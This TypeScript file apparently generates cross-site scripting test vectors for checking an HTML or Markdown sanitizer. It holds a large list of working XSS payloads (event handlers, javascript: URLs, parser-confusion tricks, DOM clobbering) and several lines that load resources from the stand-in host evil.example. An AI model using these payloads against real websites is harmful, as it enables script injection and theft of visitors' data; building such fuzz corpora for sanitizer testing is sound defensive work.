import { disguisedAddresses, plainAddresses, schemeless } from "./addresses.ts";
import {
  addressAttributes,
  clobberNames,
  eventNames,
  foreignElements,
  htmlElements,
} from "./names.ts";
import { pairs, cycle, words, type Vector, type Writer } from "./vector.ts";

/** Ways to set an attribute. */
const attributeStyles: readonly ((name: string, value: string) => string)[] = [
  (name, value) => ` ${name}="${value}"`,
  (name, value) => ` ${name}='${value}'`,
  (name, value) => ` ${name}=${value}`,
  (name, value) => `/${name}=${value}`,
  (name, value) => `\t${name.toUpperCase()} = "${value}"`,
  (name, value) => `\n${name}=\n"${value}"`,
  (name, value) => `\f${name}=${value}`,
  (name, value) => `/x/${name}="${value}"/`,
  (name, value) => ` "${name}=${value}`,
  (name, value) => ` title="\`"${name}=\`${value}\``,
];

/** Every element with every event handler, in three styles of attributes each. */
export const writeHandlers: Writer = (next) =>
  [...htmlElements, ...foreignElements].flatMap((element, place) =>
    [0, 3, 5].map((step): Vector => {
      const hit = next();
      const style = cycle(attributeStyles, place + step);
      const handlers = eventNames
        .map((event) => style(`on${event}`, hit))
        .join("");
      const isForeign = place >= htmlElements.length;
      const tag = `<${element} src=x href=x${handlers}>x</${element}>`;
      const whole = isForeign && element !== "svg" ? `<svg>${tag}</svg>` : tag;
      // In a block of HTML, every style reaches the HTML parser. Outside of one, a tag must also be valid in
      // Markdown.
      const text = step === 0 ? whole : `<div>\n${whole}\n</div>`;
      return { kind: "handler", text };
    }),
  );

/** Events that happen without a visitor, and the elements that trigger them. */
const starters = [
  "<img src=x: onerror=@>",
  "<img src=x:x onerror=@ loading=eager>",
  "<image src=x: onerror=@>",
  "<svg onload=@></svg>",
  "<svg><animate onbegin=@ attributeName=x dur=1s></svg>",
  "<svg><set onbegin=@ attributeName=x></svg>",
  "<svg><script>@</script></svg>",
  "<svg><script href=data:,@></script></svg>",
  "<body onload=@>",
  "<body onpageshow=@>",
  "<iframe onload=@></iframe>",
  "<iframe srcdoc='<script>parent.@</script>'></iframe>",
  "<iframe src='javascript:parent.@'></iframe>",
  "<object data=x: onerror=@></object>",
  "<object data='javascript:@'></object>",
  "<embed src='javascript:@'>",
  "<audio src=x: onerror=@></audio>",
  "<video src=x: onerror=@></video>",
  "<video><source src=x: onerror=@></video>",
  "<details open ontoggle=@>x</details>",
  "<input autofocus onfocus=@>",
  "<textarea autofocus onfocus=@></textarea>",
  "<select autofocus onfocus=@></select>",
  "<a autofocus onfocus=@ href=# tabindex=1>x</a>",
  "<p tabindex=1 autofocus onfocus=@>x</p>",
  "<marquee onstart=@>x</marquee>",
  "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=@>x</p>",
  "<style onload=@></style>",
  "<link rel=stylesheet href=data:text/css, onload=@>",
  "<script>@</script>",
  "<script src=data:,@></script>",
  "<script type=module>@</script>",
  "<script\u000c>@</script >",
  "<script/x>@</script\n>",
  "<SCRIPT>@</SCRIPT>",
  "<scr<script>ipt>@</scr</script>ipt>",
  "<<script>@//<</script>",
  "<script>@<!--</script>",
  "<script src='data:text/javascript;base64,BASE64'></script>",
  "<meta http-equiv=refresh content='0;url=javascript:@'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<base href='https://evil.example/'>",
  "<p class='fixed inset-0 wireframe'>x</p>",
  "<p style='position:fixed;inset:0'>x</p>",
  "<base href='javascript:@//'>",
  "<form action='javascript:@'><button autofocus>x</button></form>",
  "<form><button formaction='javascript:@'>x</button></form>",
  "<form id=f></form><button form=f formaction='javascript:@'>x</button>",
  "<form><input type=submit formaction='javascript:@'></form>",
  "<isindex action='javascript:@' type=image>",
  "<math><maction actiontype=statusline xlink:href='javascript:@'>x</maction></math>",
  "<math href='javascript:@'>x</math>",
  "<svg><a xlink:href='javascript:@'><text y=1>x</text></a></svg>",
  "<svg><a><animate attributeName=href values='javascript:@'/><text y=1>x</text></a></svg>",
  "<svg><a><set attributeName=xlink:href to='javascript:@'/><text y=1>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><script>@</script></svg>#x'/></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.@</script>'></iframe></foreignObject></svg>",
  "<table background='javascript:@'><tr><td background='javascript:@'>x</td></tr></table>",
  "<div style='background:url(javascript:@)'>x</div>",
  "<div style='width:expression(@)'>x</div>",
  "<div style=\"-moz-binding:url('data:text/xml,x')\">x</div>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style>*{background:url(https://evil.example/x)}</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<link rel=import href=https://evil.example/x>",
  "<link rel=preload as=script href=https://evil.example/x>",
  "<link rel=prefetch href=https://evil.example/x>",
  "<img src=/a.png srcset='javascript:@ 1x'>",
  "<picture><source srcset='x:'><img onerror=@ src=x:></picture>",
  "<map name=m><area href='javascript:@' shape=default></map><img usemap=#m src=/a.png>",
  "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=@>x</p>",
  "<div><template shadowrootmode=open><img src=x: onerror=@></template></div>",
  "<template><script>@</script></template>",
  "<noscript><p title='</noscript><img src=x: onerror=@>'></noscript>",
  "<xml><i><b>&lt;img src=x: onerror=@&gt;</b></i></xml>",
  "<?xml-stylesheet href='javascript:@'?>",
  "<!ENTITY x '@'><x>&x;</x>",
  "<frameset onload=@><frame src='javascript:@'></frameset>",
  "<applet code='javascript:@'></applet>",
  "<layer src='javascript:@'></layer>",
  "<bgsound src='javascript:@'>",
  "<portal src=https://evil.example/></portal>",
  "<object type=text/html data=https://evil.example/></object>",
  "<a href=/x ping=https://evil.example/>x</a>",
  "<a href=/x target=_top onclick=@>x</a>",
  "<input type=image src=x: onerror=@>",
  "<input type=checkbox onclick=@ onchange=@>",
  "<keygen autofocus onfocus=@>",
  "<x contenteditable onblur=@>x</x>",
  "<dialog open onclose=@><form method=dialog><button>x</button></form></dialog>",
  "<custom-element is=x onclick=@>x</custom-element>",
  "<comment><img src='</comment><img src=x: onerror=@>'></comment>",
];

export function starterTexts(hit: string): string[] {
  const base64 = btoa(hit);
  return starters.map((text) =>
    text.replaceAll(/@(?!keyframes|import)/gu, hit).replace("BASE64", base64),
  );
}

export const writeStarters: Writer = (next) =>
  starters.map((_, place) => {
    const text = starterTexts(next())[place] ?? "";
    return { kind: "starter", text };
  });

/** Addresses that run a script, in every attribute that takes an address. */
export const writeAddresses: Writer = (next) => {
  const elements = words("a img iframe form object embed svg button q x");
  const links = disguisedAddresses("@").flatMap((_, place) =>
    ['"', "'"].map((quote) => {
      const address = disguisedAddresses(next())[place] ?? "";
      return `<a href=${quote}${address}${quote}>x</a>`;
    }),
  );
  const others = pairs(addressAttributes, elements).flatMap(
    ([attribute, element], place) =>
      [0, 5].map((step) => {
        const address = cycle(plainAddresses(next()), place + step);
        return `<${element} ${attribute}="${address.replaceAll('"', "'")}">x</${element}>`;
      }),
  );
  const elsewhere = schemeless.flatMap((address) => [
    `<a href="${address}">x</a> <img src="${address}">`,
    `[x](<${address}>) ![x](<${address}>)`,
    `[x](${address}) ![x](${address})`,
  ]);
  return [...links, ...others, ...elsewhere].map((text) => ({
    kind: "address",
    text,
  }));
};

const clobbering = words("a img form input iframe h2 p li section object");

/** Elements with names that scripts look up (DOM clobbering). */
export const writeClobbers: Writer = () =>
  clobberNames.map((name) => {
    const elements = clobbering.flatMap((element) => [
      `<${element} id=${name} href=x src=/a.png>x</${element}>`,
      `<${element} name=${name}>x</${element}>`,
    ]);
    const pair = `<a id=${name}><a id=${name} name=x href=y></a>`;
    return { kind: "clobber", text: [...elements, pair].join("\n\n") };
  });
